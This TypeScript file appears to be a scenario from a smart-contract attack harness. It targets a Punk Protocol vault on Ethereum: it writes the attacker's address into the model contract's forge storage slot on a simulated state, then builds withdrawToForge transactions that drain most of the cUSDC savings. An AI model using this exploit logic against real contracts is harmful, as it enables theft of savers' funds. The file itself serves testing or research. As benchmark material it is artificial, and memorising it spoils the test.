import type { Address } from '../../../src/model/hex.ts'
import { calling, type OnState, plant, read } from './attack.ts'

const MODEL: Address = '0x3bc6aa2d25313ad794b2d67f83f21d341cc3f5fb'
const LENT: Address = '0x39aa39c021dfbae8fac545936693ac917d5e7563'
/** Where a model keeps its forge, the vault that savers deal with. */
const FORGE_SLOT = 1n

/** Punk Protocol on Ethereum: vaults (forges) whose models lend the savings to Compound. */
export const falseForge: OnState = {
  id: 'false-forge',
  kind: 'vault',
  state: 'PunkProtocol',
  protect: [MODEL],
  purse: { holder: MODEL, token: LENT, symbol: 'cUSDC', decimals: 8 },
  planted: 'the slot of the USDC model that names its forge: the attacker’s account',
  deed: 'an account withdraws the savings from the model in the forge’s place',
  async prepare({ rpc }, attacker) {
    await plant(rpc, MODEL, FORGE_SLOT, BigInt(attacker))
    const lent = await read(rpc, LENT, calling('balanceOf(address) view returns (uint256)', MODEL))
    const rate = await read(rpc, LENT, calling('exchangeRateStored() view returns (uint256)'))
    const savings = (lent * rate) / 10n ** 18n
    const withdraw = (amount: bigint) => ({
      to: MODEL,
      data: calling('withdrawToForge(uint256)', amount),
      value: 0n,
    })
    return { attack: withdraw((savings * 6n) / 10n), again: withdraw((savings * 3n) / 10n) }
  },
}
